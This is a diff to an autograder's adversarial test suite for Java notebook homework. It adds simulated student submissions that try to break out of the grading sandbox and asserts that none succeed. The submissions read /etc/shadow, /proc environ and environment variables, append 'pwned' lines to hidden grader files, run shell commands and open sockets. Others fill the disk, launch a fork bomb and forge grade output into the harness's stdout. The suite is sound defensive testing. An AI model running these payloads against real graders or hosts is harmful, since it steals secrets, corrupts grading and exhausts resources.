@@ -29,6 +29,8 @@ KERNEL = ROOT / "build" / "jupyter" / "kernels" / "java" / "kernel.json"
 # both homeworks are graded at once, one submission each: two kernels on CI's two cores
 # (a slower machine can give more time: KIT_GRADE_CELL_TIMEOUT, KIT_START_TIMEOUT)
 LIMITS = ["--cell-timeout", os.environ.get("KIT_GRADE_CELL_TIMEOUT", "30"), "--submission-timeout", "900", "--jobs", "1"]
+SEED = 424242           # the hidden inputs of these runs (hidden_strings needs them); a real run draws its own
+TOKEN = "k7attack" + str(os.getpid())     # names of the files the attacks try to create outside the sandbox
 
 
 def edition(hid, which):
@@ -65,6 +67,16 @@ def insert_after(nb, cell, text):
                                                       "outputs": [], "execution_count": None})
 
 
+def edit(nb, hw, pid, *pairs, kind="answer"):
+    """Replaces text in the instructor edition's answer cell of part pid (a wrong answer a student writes)."""
+    c = cell_of(nb, hw, pid, kind)
+    text = editions.source_text(c)
+    for old, new in zip(pairs[::2], pairs[1::2]):
+        assert old in text, f"{pid}: {old!r} not in the cell"
+        text = text.replace(old, new, 1)
+    c["source"] = text
+
+
 def visible(hw, check_id):
     """The expected value a visible check shows (what a student could copy)."""
     text = "\n".join(c.text for c in hw.cells)
@@ -74,6 +86,173 @@ def visible(hw, check_id):
 
 def write(d, name, nb):
     (d / f"{name}.ipynb").write_text(json.dumps(nb, indent=1, ensure_ascii=False), encoding="utf-8")
+
+
+def host_ip():
+    """This machine's address on its network (the listener's second address), else loopback."""
+    import socket
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as so:
+            so.connect(("10.255.255.255", 1))
+            return so.getsockname()[0]
+    except OSError:
+        return "127.0.0.1"
+
+
+class Listener:
+    """A TCP listener outside the sandbox, on every address: counts the connections it gets (must stay 0)."""
+
+    def __init__(self):
+        import socket
+        import threading
+        self.sock = socket.socket()
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind(("0.0.0.0", 0))
+        self.sock.listen(16)
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        threading.Thread(target=self._run, daemon=True).start()
+
+    def _run(self):
+        while True:
+            try:
+                c, _ = self.sock.accept()
+            except OSError:
+                return
+            self.connections += 1
+            c.close()
+
+    def close(self):
+        self.sock.close()
+
+
+LISTENER = None
+
+
+def java_str(text):
+    return '"' + str(text).replace("\\", "\\\\").replace('"', '\\"') + '"'
+
+
+def attack_code(d):
+    """Java that tries every route a student can write in a minute: reads of the instructor's files (properties,
+    environment, class path, /proc, guessed paths, the working directory's parents, FileInputStream and nio),
+    writes outside its scratch folder (hidden tests, grader output, another submission, home, /tmp), processes
+    (ProcessBuilder, Runtime.exec), the network (a listener outside, on loopback and on the machine's address).
+    It prints what it got; the test reads that from the executed notebook, outside."""
+    out = d.parent / f"out-{d.name}"
+    paths = [ROOT / "environment/grading/hidden/H1.py", ROOT / "environment/grading/hidden/__init__.py",
+             ROOT / "notebooks/homework/H1-linear-time-mmd.ipynb", d / "victim.ipynb", d, out, out / "gradebook.csv",
+             Path.home(), Path("/root"), Path("/home"), ROOT, ROOT / "build", Path("/work"), Path("/etc/passwd"),
+             Path("/etc/shadow"), Path(tempfile.gettempdir())]
+    writes = [ROOT / "environment/grading/hidden/H1.py", ROOT / f"{TOKEN}-root", out / f"{TOKEN}-out",
+              out / "gradebook.csv", d / "victim.ipynb", d / f"{TOKEN}-sub", Path.home() / f"{TOKEN}-home",
+              Path(f"/tmp/{TOKEN}-tmp"), Path(f"/kit/lib/{TOKEN}"), Path(f"/kit/harness/runner.py"), Path(f"/{TOKEN}")]
+    port = LISTENER.port
+    j = lambda xs: ", ".join(java_str(x) for x in xs)
+    return f"""StringBuilder k7a = new StringBuilder();
+java.util.function.Consumer<String> k7say = t -> k7a.append(t).append('\\n');
+System.getProperties().forEach((k, v) -> k7say.accept("PROPS " + k + "=" + v));
+System.getenv().forEach((k, v) -> k7say.accept("ENV " + k + "=" + v));
+k7say.accept("CP " + System.getProperty("java.class.path") + " " + System.getenv("RJK_CLASSPATH"));
+try (var ps = java.nio.file.Files.list(java.nio.file.Path.of("/proc"))) {{
+    for (var q : (Iterable<java.nio.file.Path>) ps::iterator) {{
+        String n = q.getFileName().toString();
+        if (!n.chars().allMatch(Character::isDigit) && !n.equals("self")) continue;
+        for (String f : new String[]{{"cmdline", "environ", "cwd", "root"}}) {{
+            try {{ k7say.accept("PROC " + n + "/" + f + " " + (f.startsWith("c") && f.length() == 3 || f.equals("root")
+                ? java.nio.file.Files.readSymbolicLink(q.resolve(f)).toString()
+                : new String(java.nio.file.Files.readAllBytes(q.resolve(f))).replace('\\0', ' '))); }}
+            catch (Exception e) {{ k7say.accept("NOPROC " + n + "/" + f + " " + e); }}
+        }}
+    }}
+}} catch (Exception e) {{ k7say.accept("NOLIST /proc " + e); }}
+for (String f : new String[]{{"/proc/self/mountinfo", "/proc/1/mountinfo"}}) {{
+    try {{ k7say.accept("MOUNTS " + new String(java.nio.file.Files.readAllBytes(java.nio.file.Path.of(f))).replace('\\n', '|')); }}
+    catch (Exception e) {{ k7say.accept("NOMOUNTS " + e); }}
+}}
+for (String f : new String[]{{{j(paths)}}}) {{
+    try (var in = new java.io.FileInputStream(f)) {{ k7say.accept("FIS-OK " + f + " " + new String(in.readAllBytes())); }}
+    catch (Exception e) {{ k7say.accept("NOFIS " + f + " " + e); }}
+    try {{ k7say.accept("NIO-OK " + f + " " + java.nio.file.Files.readString(java.nio.file.Path.of(f))); }}
+    catch (Exception e) {{ k7say.accept("NONIO " + f + " " + e); }}
+    String[] k7l = new java.io.File(f).list();
+    k7say.accept((k7l == null ? "NOLIST " : "LIST-OK ") + f + " " + (k7l == null ? "" : String.join(",", k7l)));
+}}
+try {{
+    java.io.File k7d = new java.io.File(".").getCanonicalFile();
+    while (k7d != null) {{ String[] l = k7d.list(); k7say.accept("CWD " + k7d + " " + (l == null ? "-" : String.join(",", l))); k7d = k7d.getParentFile(); }}
+}} catch (Exception e) {{ k7say.accept("NOCWD " + e); }}
+java.util.ArrayDeque<java.io.File> k7q = new java.util.ArrayDeque<>(java.util.List.of(new java.io.File("/")));
+int k7n = 0;
+while (!k7q.isEmpty() && k7n < 3000) {{
+    java.io.File f = k7q.poll();
+    String p = f.getPath();
+    if (p.startsWith("/proc") || p.startsWith("/sys") || p.startsWith("/usr") || p.startsWith("/dev")
+        || p.startsWith("/kit/lib/") || p.startsWith("/kit/javacpp/") || p.startsWith("/kit/jdk/")) continue;
+    k7n++;
+    java.io.File[] kids = f.listFiles();
+    if (kids != null) {{ for (java.io.File k : kids) k7q.add(k); k7say.accept("DIR " + p); }}
+    else if (f.isFile() && f.length() < 20_000 && !p.endsWith(".jar") && !p.contains(".so")) {{
+        try {{ k7say.accept("FILE " + p + " " + java.nio.file.Files.readString(f.toPath())); }} catch (Exception e) {{ k7say.accept("NOFILE " + p); }}
+    }}
+}}
+for (String f : new String[]{{{j(writes)}}}) {{
+    try {{ java.nio.file.Files.writeString(java.nio.file.Path.of(f), "\\nprint('{TOKEN} pwned')\\n",
+              java.nio.file.StandardOpenOption.CREATE, java.nio.file.StandardOpenOption.APPEND); k7say.accept("WROTE " + f); }}
+    catch (Exception e) {{ k7say.accept("NOWRITE " + f + " " + e); }}
+}}
+try {{
+    Process k7p = new ProcessBuilder("sh", "-c", "id; echo {TOKEN} > {ROOT}/{TOKEN}-proc; echo {TOKEN} > /tmp/{TOKEN}-proc; "
+        + "cat {ROOT}/environment/grading/hidden/H1.py; ls -la / /kit").redirectErrorStream(true).start();
+    k7say.accept("PROCESS " + new String(k7p.getInputStream().readAllBytes()).replace('\\n', '|'));
+}} catch (Exception e) {{ k7say.accept("NOPROCESS " + e); }}
+try {{ Runtime.getRuntime().exec(new String[]{{"/bin/sh", "-c", "echo {TOKEN} > {Path.home()}/{TOKEN}-exec"}}).waitFor(); k7say.accept("EXEC ran"); }}
+catch (Exception e) {{ k7say.accept("NOEXEC " + e); }}
+for (String h : new String[]{{"127.0.0.1", "localhost", {java_str(host_ip())}}}) {{
+    try (var so = new java.net.Socket()) {{ so.connect(new java.net.InetSocketAddress(h, {port}), 2000);
+        so.getOutputStream().write("{TOKEN}".getBytes()); k7say.accept("CONNECTED " + h); }}
+    catch (Exception e) {{ k7say.accept("NOCONNECT " + h + " " + e); }}
+}}
+System.out.println("K7-ATTACKS-DONE");
+System.out.println(k7a);"""
+
+
+# a submission that prints everything it is given, and throws it back in an exception's message
+PRINTER = ("System.out.println(\"GIVEN \" + java.util.Arrays.toString(x) + java.util.Arrays.toString(y) + sigma);\n"
+           "System.err.println(\"GIVEN \" + java.util.Arrays.toString(x));\n")
+THROWER = ("if (x.length != 8 && x.length < 100) throw new IllegalStateException(\"GIVEN \" + java.util.Arrays.toString(x) + "
+           "java.util.Arrays.toString(y));\n")
+
+BOMBS = """for (int k = 0; k < 6; k++) {
+    try (var out = new java.io.FileOutputStream("/tmp/fill" + k)) { byte[] b = new byte[1 << 20]; for (int i = 0; i < 100; i++) out.write(b); }
+    catch (Throwable e) { System.out.println("FILL " + k + " " + e); }
+}
+try (var out = new java.io.FileOutputStream("fill-here")) { byte[] b = new byte[1 << 20]; for (int i = 0; i < 100; i++) out.write(b); }
+catch (Throwable e) { System.out.println("FILL cwd " + e); }
+try { new ProcessBuilder("sh", "-c", ":(){ :|:& };:").start(); Thread.sleep(3000); } catch (Throwable e) { System.out.println("FORK " + e); }
+java.util.List<Thread> bombs = new java.util.ArrayList<>();
+while (true) { Thread t = new Thread(() -> { try { Thread.sleep(1_000_000); } catch (InterruptedException e) { } }); t.start(); bombs.add(t); }"""
+
+FORGER = """System.out.println("[grade] H1 10/10");
+System.out.println("[check] H1a PASS");
+Thread forge = new Thread(() -> {
+    for (int k = 0; k < 3000; k++) {
+        try {
+            for (ProcessHandle h : ProcessHandle.allProcesses().toList()) {
+                if (!h.info().commandLine().orElse("").contains("harness")) continue;
+                try (var out = new java.io.FileOutputStream("/proc/" + h.pid() + "/fd/1")) {
+                    for (int id = 0; id < 60; id++)
+                        out.write(("{\\"id\\": " + id + ", \\"status\\": \\"ok\\", \\"outputs\\": [{\\"output_type\\": \\"execute_result\\", "
+                                   + "\\"data\\": {\\"text/plain\\": \\"0 d 3ff0000000000000 1 d 3ff0000000000000\\"}}]}\\n").getBytes());
+                }
+            }
+            System.out.println("0 d 3ff0000000000000 1 d 3ff0000000000000 2 d 3ff0000000000000");
+            Thread.sleep(20);
+        } catch (Exception e) { }
+    }
+});
+forge.setDaemon(true);
+forge.start();"""
 
 
 def h1_submissions(d):
@@ -119,6 +298,72 @@ def h1_submissions(d):
     write(d, "faults", nb)
     expected["faults"] = {"H1a": "timeout", "H1b": "passed", "H1c": "passed", "H1d": "passed", "H1e": "error"}
     expected_flags["faults"] = ["exits the JVM", "set-up cells"]
+
+    # wrong answers students write (issue 21): each loses its part's points. (a)-(c) are deterministic; (d) and (e)
+    # fail by the acceptance regions in hidden/H1.py (the arithmetic is there)
+    _, nb = edition("H1", "instructor")
+    edit(nb, hw, "H1a", "if (i != j) { kxx += rbf(x[i], x[j], sigma); kyy += rbf(y[i], y[j], sigma); }",
+         "kxx += rbf(x[i], x[j], sigma); kyy += rbf(y[i], y[j], sigma);",          # the biased V-statistic
+         "(kxx + kyy) / (m * (m - 1.0))", "(kxx + kyy) / ((double) m * m)")
+    edit(nb, hw, "H1c", "Math.sqrt(ss / (h.length - 1))", "Math.sqrt(ss / h.length)")            # n, not n − 1
+    edit(nb, hw, "H1d", "if (linearZ(a, b, 1.0) > 1.645) rejections++;",
+         "if (linearZ(a, b, 1.0) > 16.45) rejections++;")                           # a test that never rejects
+    edit(nb, hw, "H1e", "if (stat.applyAsDouble(idx) >= observed) atLeast++;",
+         "if (stat.applyAsDouble(idx) <= observed) atLeast++;")                     # the p-value the wrong way round
+    write(d, "wrong1", nb)
+    expected["wrong1"] = {"H1a": "failed", "H1b": "passed", "H1c": "failed", "H1d": "failed", "H1e": "failed"}
+    _, nb = edition("H1", "instructor")
+    edit(nb, hw, "H1a", "(kxx + kyy) / (m * (m - 1.0))", "(kxx + kyy) / ((double) m * m)")   # m² for m(m − 1)
+    edit(nb, hw, "H1d", "if (linearZ(a, b, 1.0) > 1.645) rejections++;",
+         "if (Math.abs(linearZ(a, b, 1.0)) > 1.645) rejections++;")                # two-sided
+    edit(nb, hw, "H1e", "double[] a = new double[mLin], c = new double[mLin];",
+         "double[] a = new double[2 * nQuad], c = new double[2 * nQuad];",         # unequal compute: 60 points
+         "for (int i = 0; i < mLin; i++) { a[i]", "for (int i = 0; i < 2 * nQuad; i++) { a[i]")
+    write(d, "wrong2", nb)
+    expected["wrong2"] = {"H1a": "failed", "H1b": "passed", "H1c": "passed", "H1d": "failed", "H1e": "failed"}
+    _, nb = edition("H1", "instructor")
+    edit(nb, hw, "H1a", "- 2 * kxy / ((double) m * m)", "- kxy / ((double) m * m)")             # the 2 forgotten
+    edit(nb, hw, "H1b", "- rbf(x1, y2, sigma) - rbf(x2, y1, sigma)", "- rbf(x1, y1, sigma) - rbf(x2, y2, sigma)")  # pairing
+    edit(nb, hw, "H1c", "return mu / (Math.sqrt(ss / (h.length - 1)) / Math.sqrt(h.length));",
+         "return mu / Math.sqrt(ss / (h.length - 1));")                              # √(m/2) forgotten
+    edit(nb, hw, "H1d", "> 1.645) rejections++;", "> 1.96) rejections++;")         # the 2.5 % quantile
+    edit(nb, hw, "H1e", "if (linearZ(a, c, 1.0) > 1.645) rejL++;", "if (Math.abs(linearZ(a, c, 1.0)) > 1.645) rejL++;")
+    write(d, "wrong3", nb)
+    expected["wrong3"] = dict.fromkeys(["H1a", "H1b", "H1c", "H1d", "H1e"], "failed")
+
+    # a victim: the correct solution with a secret in a comment, graded next to the attacks
+    _, nb = edition("H1", "instructor")
+    a = cell_of(nb, hw, "H1a")
+    a["source"] = f"// {TOKEN}-victim-secret\n" + editions.source_text(a)
+    write(d, "victim", nb)
+    expected["victim"] = dict.fromkeys(["H1a", "H1b", "H1c", "H1d", "H1e"], "passed")
+
+    # the attacks (a curious student's minute each): every route to the instructor's files and the world, then
+    # the correct answers, so every part must pass as without the attack
+    _, nb = edition("H1", "instructor")
+    insert_after(nb, next(c for c in nb["cells"] if "import java.util.Random;" in editions.source_text(c)),
+                 attack_code(d))
+    edit(nb, hw, "H1a", "    int m = x.length;\n", PRINTER + "    int m = x.length;\n")
+    edit(nb, hw, "H1c", "double[] h = linearTerms(x, y, sigma);", THROWER + "double[] h = linearTerms(x, y, sigma);")
+    write(d, "attacker", nb)
+    expected["attacker"] = {"H1a": "passed", "H1b": "passed", "H1c": "error", "H1d": "passed", "H1e": "passed"}
+
+    # resources: a file that fills the disk, a fork bomb, a thread bomb (ending the kernel) in (a); a sleep past the
+    # limit in (b); (c)-(e) graded as usual
+    _, nb = edition("H1", "instructor")
+    insert_after(nb, cell_of(nb, hw, "H1a"), BOMBS)
+    insert_after(nb, cell_of(nb, hw, "H1b"), "Thread.sleep(1_000_000_000L);")
+    write(d, "bomber", nb)
+    expected["bomber"] = {"H1a": "error", "H1b": "timeout", "H1c": "passed", "H1d": "passed", "H1e": "passed"}
+
+    # forged output: wrong answers plus fake markers, fake result lines and fake replies written into the
+    # executor's own output pipe; must stay as failed as without them
+    _, nb = edition("H1", "student")
+    fill(cell_of(nb, hw, "H1a"), "return 0.0;")
+    insert_after(nb, cell_of(nb, hw, "H1a"), FORGER)
+    write(d, "forger", nb)
+    expected["forger"] = {"H1a": "failed", "H1b": "not_answered", "H1c": "not_answered", "H1d": "not_answered",
+                          "H1e": "not_answered"}
 
     (d / "broken_json.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "double', encoding="utf-8")
     expected["broken_json"] = dict.fromkeys(["H1a", "H1b", "H1c", "H1d", "H1e"], "unreadable")
@@ -176,6 +421,38 @@ def h2_submissions(d):
     write(d, "hardcoded", nb)
     expected["hardcoded"] = {"H2a": "passed", "H2b": "failed", "H2c": "failed", "H2d": "failed"}
     expected_flags["hardcoded"] = ["reflection"]
+
+    # wrong answers students write (issue 21); (b) fails by the tolerance in hidden/H2.py (arithmetic there)
+    _, nb = edition("H2", "instructor")
+    edit(nb, hw, "H2a", "return max + Math.log(s) - Math.log(xs.length);", "return max + Math.log(s);")   # Σ, not mean
+    edit(nb, hw, "H2c", "double penaltyBetaVae = betaH2 * (miH2 + tcH2 + dimKlH2);",
+         "double penaltyBetaVae = miH2 + betaH2 * tcH2 + dimKlH2;",                  # the two penalties swapped
+         "double penaltyBetaTc = miH2 + betaH2 * tcH2 + dimKlH2;", "double penaltyBetaTc = betaH2 * (miH2 + tcH2 + dimKlH2);")
+    edit(nb, hw, "H2d", "double v11 = 1 + sH2[0] * sH2[0], v22 = t * t + sH2[1] * sH2[1]",
+         "double v11 = 1 + sH2[0], v22 = t * t + sH2[1]")                            # σ for σ²
+    write(d, "wrong1", nb)
+    expected["wrong1"] = dict.fromkeys(["H2a", "H2b", "H2c", "H2d"], "failed")
+    _, nb = edition("H2", "instructor")
+    edit(nb, hw, "H2b", "sumTc += logAggregate(z, xsH2, 0, 1) - logAggregate(z, xsH2, 0) - logAggregate(z, xsH2, 1);",
+         "sumTc += logAggregate(z, xsH2, 0) + logAggregate(z, xsH2, 1) - logAggregate(z, xsH2, 0, 1);")   # sign
+    edit(nb, hw, "H2c", "double penaltyBetaTc = miH2 + betaH2 * tcH2 + dimKlH2;",
+         "double penaltyBetaTc = betaH2 * miH2 + tcH2 + dimKlH2;")                   # β on the wrong term
+    edit(nb, hw, "H2d", "double tcLimit = 0.5 * Math.log(1 + 1 / (sH2[0] * sH2[0]));",
+         "double tcLimit = 0.5 * Math.log(1 + 1 / (sH2[1] * sH2[1]));")              # the other latent's noise
+    write(d, "wrong2", nb)
+    expected["wrong2"] = {"H2a": "passed", "H2b": "failed", "H2c": "failed", "H2d": "failed"}
+    _, nb = edition("H2", "instructor")
+    edit(nb, hw, "H2a", "for (double e : l) s += Math.exp(e - max);\n", "for (double e : l) s += Math.exp(e);\n",
+         "return max + Math.log(s) - Math.log(xs.length);", "return Math.log(s) - Math.log(xs.length);")   # no log-sum-exp
+    edit(nb, hw, "H2b", "double[] z = {aH2[0] * x + sH2[0] * rngH2.nextGaussian(), aH2[1] * x + sH2[1] * rngH2.nextGaussian()};",
+         "double x2 = xsH2[rngH2.nextInt(nData)];\n    double[] z = {aH2[0] * x + sH2[0] * rngH2.nextGaussian(), "
+         "aH2[1] * x2 + sH2[1] * rngH2.nextGaussian()};")                          # z_1, z_2 of different data points
+    edit(nb, hw, "H2c", "double penaltyBetaVae = betaH2 * (miH2 + tcH2 + dimKlH2);",
+         "double penaltyBetaVae = betaH2 * (miH2 + tcH2);")                          # the dimension-wise KL forgotten
+    edit(nb, hw, "H2d", "return 0.5 * Math.log(v11 * v22 / (v11 * v22 - v12 * v12));",
+         "return Math.log(v11 * v22 / (v11 * v22 - v12 * v12));")                   # the ½ forgotten
+    write(d, "wrong3", nb)
+    expected["wrong3"] = dict.fromkeys(["H2a", "H2b", "H2c", "H2d"], "failed")
     return expected, expected_flags
 
 
@@ -193,6 +470,9 @@ class AdversarialGradingTest(unittest.TestCase):
 
     @classmethod
     def setUpClass(cls):
+        global LISTENER
+        LISTENER = Listener()
+        cls.hashes = grade.digest(grade.instructor_files())
         cls.tmp = tempfile.TemporaryDirectory(prefix="kit-grade-test-")
         base = Path(cls.tmp.name)
         cls.cases = {}
@@ -202,7 +482,8 @@ class AdversarialGradingTest(unittest.TestCase):
             cls.cases[hid] = make(d)
         cls.outs = {hid: base / f"out-{hid}" for hid in cls.cases}
         procs = {hid: subprocess.Popen([sys.executable, str(ENV / "grade.py"), hid, str(base / hid), "--out",
-                                        str(cls.outs[hid])] + LIMITS, stdout=subprocess.PIPE,
+                                        str(cls.outs[hid]), "--seed", str(SEED)] + LIMITS,
+                                       stdout=subprocess.PIPE,
                                        stderr=subprocess.STDOUT, text=True) for hid in cls.cases}
         cls.logs = {hid: p.communicate()[0] for hid, p in procs.items()}
         for hid, p in procs.items():
@@ -211,7 +492,60 @@ class AdversarialGradingTest(unittest.TestCase):
 
     @classmethod
     def tearDownClass(cls):
+        LISTENER.close()
         cls.tmp.cleanup()
+
+    def outputs(self, hid, student):
+        """Everything the student's code printed, from the executed notebook the grader keeps (instructor-only)."""
+        nb = json.loads((self.outs[hid] / "runs" / f"{student}.ipynb").read_text(encoding="utf-8"))
+        text = []
+        for c in nb["cells"]:
+            for o in c.get("outputs", []):
+                text.append(o.get("text", "") if isinstance(o.get("text", ""), str) else "".join(o["text"]))
+                for v in o.get("data", {}).values():
+                    text.append(v if isinstance(v, str) else "".join(v))
+                text.append(o.get("evalue", ""))
+        return "\n".join(text)
+
+    def test_attacks_have_no_effect_outside(self):
+        """Checked from outside: the instructor's files unchanged, no file created anywhere outside the sandbox,
+        no connection to the listener, the victim graded as usual (check_homework)."""
+        self.assertEqual(grade.digest(grade.instructor_files()), self.hashes, "an instructor file changed")
+        base = Path(self.tmp.name)
+        places = [ROOT, ROOT / "environment" / "grading" / "hidden", Path.home(), Path("/tmp"), base] + \
+                 [p for p in base.rglob("*") if p.is_dir()]
+        found = [str(p) for d in places for p in d.glob(f"*{TOKEN}*")]
+        self.assertEqual([], found, "files the attacks created outside the sandbox")
+        self.assertEqual(0, LISTENER.connections, "a submission reached the network")
+        for hid in self.outs:
+            for f in (self.outs[hid] / "gradebook.csv", self.outs[hid] / "summary.csv"):
+                self.assertNotIn(TOKEN, f.read_text(encoding="utf-8"))
+        victim = (base / "H1" / "victim.ipynb").read_text(encoding="utf-8")
+        self.assertNotIn("pwned", victim)
+
+    def test_attacks_saw_nothing_of_the_instructor(self):
+        text = self.outputs("H1", "attacker")
+        self.assertIn("K7-ATTACKS-DONE", text, "the attack cell did not run to its end")
+        self.assertGreater(text.count("\nPROC "), 3, "the attack saw no process of its own")
+        secrets = [f"{TOKEN}-victim-secret", "INSTRUCTOR-ONLY", "BEGIN SOLUTION", str(SEED)]
+        host = [str(ROOT), self.tmp.name, "/root", "/home/"]
+        echo = ("NOFIS", "NONIO", "NOLIST", "NOWRITE", "WROTE", "LIST-OK", "PROCESS", "NOPROCESS", "NOEXEC", "NOCONNECT")
+        for line in text.splitlines():
+            for sec in secrets:
+                self.assertNotIn(sec, line, f"the attack read {sec!r}: {line[:300]}")
+            self.assertFalse(line.startswith(("FIS-OK", "NIO-OK", "CONNECTED")), line[:300])
+            if line.startswith(("LIST-OK", "WROTE")):
+                self.assertTrue(line.split()[1] == "/tmp" or line.split()[1].startswith("/tmp/"), line[:300])
+            if not line.startswith(echo):       # (those lines repeat the paths the attack itself tried)
+                for h in host:
+                    self.assertNotIn(h, line, f"an instructor path is visible to the kernel: {line[:300]}")
+        feedback = (self.outs["H1"] / "feedback" / "attacker.html").read_text(encoding="utf-8")
+        self.assertNotIn("GIVEN", feedback, "what the code printed or threw during the hidden tests reached the feedback")
+        self.assertIn("GIVEN", text, "the printer did not print (the check above would prove nothing)")
+
+    def test_forged_output_gains_nothing(self):
+        rows, summary = read_gradebook(self.outs["H1"])
+        self.assertEqual("0", summary["forger"]["points"])
 
     def check_homework(self, hid):
         expected, expected_flags = self.cases[hid]
@@ -251,7 +585,7 @@ class AdversarialGradingTest(unittest.TestCase):
 
     def test_messages_and_pages_hold_no_hidden_value(self):
         for hid, out in self.outs.items():
-            secrets = hidden_strings(hid)
+            secrets = hidden_strings(hid, SEED)
             texts = [(out / "gradebook.csv").read_text(encoding="utf-8")] + \
                     [p.read_text(encoding="utf-8") for p in (out / "feedback").glob("*.html")]
             for t in texts:
@@ -317,11 +651,11 @@ class StoppedRunTest(unittest.TestCase):
             self.assertEqual([], left, "kernels still running after grade.py was stopped")
 
 
-def hidden_strings(hid):
+def hidden_strings(hid, seed=None):
     """Every hidden input and expected value, as the text it would appear as: the first three numbers of each
     hidden input array, each hidden seed, each expected value and threshold in full precision."""
     out = set()
-    for tests in hidden.load(hid).values():
+    for tests in hidden.load(hid, seed).values():
         for t in tests:
             setup = t.setup if isinstance(t.setup, str) else " ".join(list(t.setup.replace.values()) + [t.setup.before])
             for text in [setup] + [c.expr for c in t.cases]:
